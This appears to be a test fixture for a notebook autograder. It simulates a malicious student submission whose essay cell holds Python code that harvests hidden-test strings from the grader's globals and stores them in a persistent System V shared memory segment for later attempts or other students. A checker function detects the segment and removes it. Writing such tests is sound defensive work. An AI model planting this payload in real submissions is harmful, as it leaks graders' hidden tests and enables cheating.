"""Keeps the hidden tests for the next attempt, or the next student, in a System V shared memory segment: no file, no process, nothing to delete or to kill, and it stays until the machine is restarted."""

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

CODE = r"""
_KEY = 0x6f757473
def _store(text):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    data = text.encode()[:60000]
    at = libc.shmget(_KEY, 65536, 0o1600 | 0o666)
    if at < 0:
        return
    where = libc.shmat(at, None, 0)
    if where and where != ctypes.c_void_p(-1).value:
        ctypes.memmove(where, data, len(data))
def _loot():
    found = [str(v) for v in globals().get("In", [])]
    found += [v for k, v in list(globals().items()) if isinstance(v, str)]
    return "OUTSIDER\n" + "\n".join(t for t in found if "hidden" in t.lower() and "_loot" not in t)
_store(_loot())
"""


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = CODE
    return notebook


def harmed(course):
    """Looks for the segment from outside, and takes it away."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    at = libc.shmget(0x6F757473, 0, 0)
    if at < 0:
        return False
    where = libc.shmat(at, None, 0)
    try:
        return ctypes.string_at(where, 8) == b"OUTSIDER"
    finally:
        libc.shmdt(where)
        libc.shmctl(at, 0, None)
